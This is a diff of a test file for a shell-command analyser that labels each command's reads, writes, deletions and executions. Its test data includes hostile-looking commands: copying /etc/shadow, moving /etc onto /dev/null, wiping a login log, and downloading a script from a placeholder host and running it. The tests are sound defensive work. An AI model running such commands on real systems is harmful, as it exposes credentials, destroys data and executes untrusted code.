@@ -1,21 +1,31 @@
 import { describe, expect, it } from 'vitest';
+import { effectText } from '../../../../src/shell/explain/effect-text.js';
+import { explain } from '../../../../src/shell/explain/explain.js';
+import { analyse } from '../../../../src/shell/understand.js';
 import { effectsOf } from '../../effects-of.js';
 
 const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
-  ['cp a b', ['read:read a', 'write:overwrite b']],
+  ['cp a b', ['read:read a', 'write:overwrite b', 'write:overwrite b/a']],
+  ['cp a b.conf', ['read:read a', 'write:overwrite b.conf']],
+  ['cp x/a y/a', ['read:read x/a', 'write:overwrite y/a']],
+  ['cp -T a b', ['read:read a', 'write:overwrite b']],
+  ['mv -T a b', ['delete:move a', 'write:overwrite b']],
   ['cp -r src /srv/www/', ['read:read src recursive', 'write:overwrite /srv/www/src recursive']],
   ['cp a b c/', ['read:read a', 'read:read b', 'write:overwrite c/a', 'write:overwrite c/b']],
   ['cp a.conf /etc', ['read:read a.conf', 'write:overwrite /etc/a.conf']],
   ['cp -t /etc/cron.d job', ['read:read job', 'write:overwrite /etc/cron.d/job']],
   ['cp -T a /etc', ['read:read a', 'write:overwrite /etc']],
-  ['cp /etc/shadow /tmp/x', ['read:read /etc/shadow sensitive', 'write:overwrite /tmp/x']],
+  [
+    'cp /etc/shadow /tmp/x',
+    ['read:read /etc/shadow sensitive', 'write:overwrite /tmp/x', 'write:overwrite /tmp/x/shadow'],
+  ],
   ['cp /dev/null /var/log/wtmp', ['read:read /dev/null', 'write:truncate /var/log/wtmp']],
-  ['cp -s a b', ['write:overwrite b']],
-  ['mv a b', ['delete:move a', 'write:overwrite b']],
+  ['cp -s a b', ['write:overwrite b', 'write:overwrite b/a']],
+  ['mv a b', ['delete:move a', 'write:overwrite b', 'write:overwrite b/a']],
   ['mv /etc /dev/null', ['delete:remove /etc recursive force', 'write:overwrite /dev/null']],
   [
     'mv --target-directory=/opt x y',
-    ['delete:move x', 'write:overwrite /opt/x', 'delete:move y', 'write:overwrite /opt/y'],
+    ['delete:move x', 'delete:move y', 'write:overwrite /opt/x', 'write:overwrite /opt/y'],
   ],
   ['ln -s /usr/bin/python3 python', ['write:create python']],
   ['ln -sf /tmp/x /usr/bin/ls', ['write:overwrite /usr/bin/ls']],
@@ -35,6 +45,13 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
 describe('tools that copy, move and link', () => {
   it.each(rows)('%s', (command, effects) => {
     expect(effectsOf(command)).toEqual(effects);
+  });
+
+  it('says that a copy may land in a directory, and follows it there', () => {
+    const { effects } = analyse('cp a dir');
+    expect(effects.map(effectText)).toEqual(['reads a', 'writes dir', 'writes dir/a (perhaps)']);
+    expect(explain('cp a dir').summary).toBe('Copies files: reads a and writes dir and perhaps dir/a.');
+    expect(effectsOf('curl -so s http://x.example/s; cp s dir; sh dir/s')).toContain('execute:downloaded dir/s');
   });
 
   it('leaves what was downloaded suspect under its new name', () => {
